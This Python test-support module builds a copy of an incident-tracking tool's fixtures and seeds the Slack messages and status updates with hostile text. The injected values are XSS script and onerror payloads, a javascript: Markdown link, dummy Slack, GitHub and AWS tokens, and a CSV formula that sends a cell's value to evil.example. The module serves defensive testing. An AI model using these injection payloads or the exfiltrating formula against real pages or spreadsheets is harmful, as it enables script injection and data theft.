"""A lake whose incident holds hostile text: a copy of the bundled fixtures with extra Slack
messages (a script tag, an onerror image, pasted secrets, Markdown and CSV injection) and a
status page update holding the same, ingested by the real connectors. The shared fixtures/
are never edited."""
from __future__ import annotations

import json
import shutil
from pathlib import Path

from tests.support import FIXTURES, demo_sources, write_config

SCRIPT = "<script>document.title='PWNED'</script>"
IMG = "<img src=x onerror=\"document.body.setAttribute('data-pwned','yes')\">"
SECRETS = {
    "slack": "xoxb-2233445566-7788990011223-AbCdEfGhIjKlMnOpQrStUvWx",
    "github": "ghp_R2d2C3p0Luke5kyw4lkerHan50loCh3wbacca",
    "aws": "AKIAIOSFODNN7QWERTYU",
    "password": "Tr0ub4dor&3",
}
MARKDOWN_BREAKER = "| broken | table [click me](javascript:alert(1)) <b>bold</b>"
FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"totally safe\")"

# Slack escapes &, < and > in message text; the normaliser turns them back.
_SLACK_ESCAPES = str.maketrans({"&": "&amp;", "<": "&lt;", ">": "&gt;"})


def hostile_messages() -> list[dict]:
    texts = [
        f"Payload in the access log: {SCRIPT} and {IMG}",
        f"debug: bot token {SECRETS['slack']}, gh {SECRETS['github']}, key {SECRETS['aws']}, "
        f"db password={SECRETS['password']}",
        MARKDOWN_BREAKER,
        FORMULA,
    ]
    base = 1791987400   # 2026-10-14T14:16:40Z, inside the demo incident
    return [{"type": "message", "user": "U02BOBM0002", "text": text.translate(_SLACK_ESCAPES),
             "ts": f"{base + i * 10}.00{i}900", "team": "T01ACME0HQ"} for i, text in enumerate(texts)]


def hostile_status_update() -> dict:
    """An update of the demo's status page incident, posted at 14:20:00Z."""
    return {"id": "h0st1le0upd8", "incident_id": "p4t7x2m9k1qz", "status": "identified",
            "body": f"{SCRIPT} {MARKDOWN_BREAKER} gh {SECRETS['github']}\n* not a list item",
            "created_at": "2026-10-14T10:20:00.000-04:00", "updated_at": "2026-10-14T10:20:00.000-04:00",
            "display_at": "2026-10-14T10:20:00.000-04:00", "affected_components": None, "deliver_notifications": True}


def hostile_config(tmp_path: Path) -> Path:
    fixtures = tmp_path / "fixtures"
    shutil.copytree(FIXTURES, fixtures)
    page = fixtures / "statuspage" / "pages" / "acmestatus01" / "incidents.json"
    incidents = json.loads(page.read_text(encoding="utf-8"))
    incidents[0]["incident_updates"].insert(1, hostile_status_update())
    page.write_text(json.dumps(incidents, indent=1), encoding="utf-8")
    day = fixtures / "slack-export" / "inc-4213-checkout" / "2026-10-14.json"
    messages = json.loads(day.read_text(encoding="utf-8")) + hostile_messages()
    messages.sort(key=lambda m: m["ts"])
    day.write_text(json.dumps(messages, indent=1), encoding="utf-8")
    sources = []
    for s in demo_sources():
        if "path" in s:
            s = {**s, "path": str(fixtures / Path(s["path"]).relative_to(FIXTURES))}
        sources.append(s)
    return write_config(tmp_path, sources)
